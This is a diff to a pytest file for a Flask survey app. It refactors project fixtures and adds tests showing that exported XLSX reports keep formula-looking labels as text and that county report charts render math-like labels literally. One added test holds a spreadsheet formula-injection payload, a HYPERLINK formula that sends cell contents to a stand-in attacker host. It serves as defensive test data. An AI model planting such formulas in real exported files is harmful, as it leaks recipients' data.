@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import io
-from datetime import date, timedelta
 
 import numpy as np
 import pandas as pd
@@ -18,35 +17,21 @@ import weighting
 from survey_app.accounts.models import Role
 from survey_app.core import db
 from survey_app.core.errors import ValidationFailed
-from survey_app.demo.services import demo_questionnaires, demo_satisfaction
-from survey_app.demo.services.demo import DemoSummary
+from survey_app.demo.services import demo_satisfaction
 from survey_app.projects.models import SurveyProject
-from survey_app.projects.services import surveys
 from survey_app.questionnaires.models import QuestionnaireVersion
 from survey_app.satisfaction.models import CountyLink, SatisfactionRun
 from survey_app.satisfaction.services import satisfaction
 from weighting import indices
 
+from ..satisfaction_world import demo_projects, new_project, stored_run
+
 ITEMS = demo_satisfaction.ITEMS
-
-
-def _project(session: Session, code: str) -> SurveyProject:
-    today = date.today()
-    return surveys.create_project(session, {
-        "code": code, "title": code, "title_en": code, "form_number": "表001", "issuing_authority": "示范省教育厅",
-        "approval_number": "示统制〔2026〕12号", "valid_until": today + timedelta(days=100),
-        "fieldwork_start": today - timedelta(days=1), "fieldwork_end": today + timedelta(days=30), "status": "active",
-    }, actor_label="test")
 
 
 @pytest.fixture
 def project_id(app: Flask) -> int:
-    with db.session_factory(app)() as session:
-        project = _project(session, demo_questionnaires.SATISFACTION)
-        _project(session, demo_questionnaires.GRADUATE)
-        demo_questionnaires.load(session, DemoSummary())
-        session.commit()
-        return project.id
+    return demo_projects(app)
 
 
 def _sample(per_cell: int = 12, seed: int = 5) -> tuple[pd.DataFrame, pd.DataFrame]:
@@ -164,6 +149,29 @@ def test_runs_reports_chart_xlsx_and_print(client: FlaskClient, app: Flask, proj
     assert any("non-probability" in str(v) for row in book["method"].values for v in row)
 
 
+def test_workbook_keeps_formula_looking_labels_as_text(client: FlaskClient, app: Flask, project_id: int, logged_in) -> None:  # type: ignore[no-untyped-def]
+    county, item = '=HYPERLINK("http://evil.example/?d="&A1,"open")', "@SUM(A1)"
+    run_id = stored_run(app, project_id, counties={"c01": county}, items={"i01": item})
+    logged_in(Role.ADMIN)
+    book = load_workbook(io.BytesIO(client.get(f"/admin/satisfaction/runs/{run_id}.xlsx").data))
+    assert all(cell.data_type != "f" for sheet in book.worksheets for row in sheet.iter_rows() for cell in row)
+    composite = {row[0]: row for row in book["composite"].iter_rows(min_row=2, values_only=True)}
+    assert composite["c01"][1] == "'" + county and isinstance(composite["c01"][2], float)
+    items = [row for row in book["items"].iter_rows(min_row=2, values_only=True) if row[1] == "i01"]
+    assert items and {row[2] for row in items} == {"'" + item} and all(isinstance(row[7], int) for row in items)
+
+
+def test_county_report_shows_labels_that_look_like_math_text(client: FlaskClient, app: Flask, project_id: int, logged_in) -> None:  # type: ignore[no-untyped-def]
+    run_id = stored_run(app, project_id, counties={"c01": "$\\frac$ county"}, items={"i01": "$$ places"})
+    logged_in(Role.ADMIN)
+    for county in ("c01", "all"):
+        page = client.get(f"/admin/satisfaction/runs/{run_id}/county/{county}")
+        assert page.status_code == 200, county
+        chart = page.get_data(as_text=True).split("<svg", 1)[1]
+        assert "i01 $$ places" in chart  # the item label, drawn as written
+    assert "$\\frac$ county" in client.get(f"/admin/satisfaction/runs/{run_id}/county/c01").get_data(as_text=True).split("<svg", 1)[1]
+
+
 def test_county_links_qr_and_copy_as_template(client: FlaskClient, app: Flask, project_id: int, logged_in) -> None:  # type: ignore[no-untyped-def]
     logged_in(Role.ADMIN)
     assert client.post(f"/admin/satisfaction/{project_id}/links").status_code == 303
@@ -171,7 +179,7 @@ def test_county_links_qr_and_copy_as_template(client: FlaskClient, app: Flask, p
     with db.session_factory(app)() as session:
         links = session.scalars(select(CountyLink).order_by(CountyLink.county)).all()
         assert [link.county for link in links] == ["c01", "c02", "c03", "c04", "c05"]
-        target = _project(session, "county-satisfaction-2027")
+        target = new_project(session, "county-satisfaction-2027")
         session.commit()
         link_id, target_id = links[0].id, target.id
     qr = client.get(f"/admin/satisfaction/links/{link_id}/qr.svg")
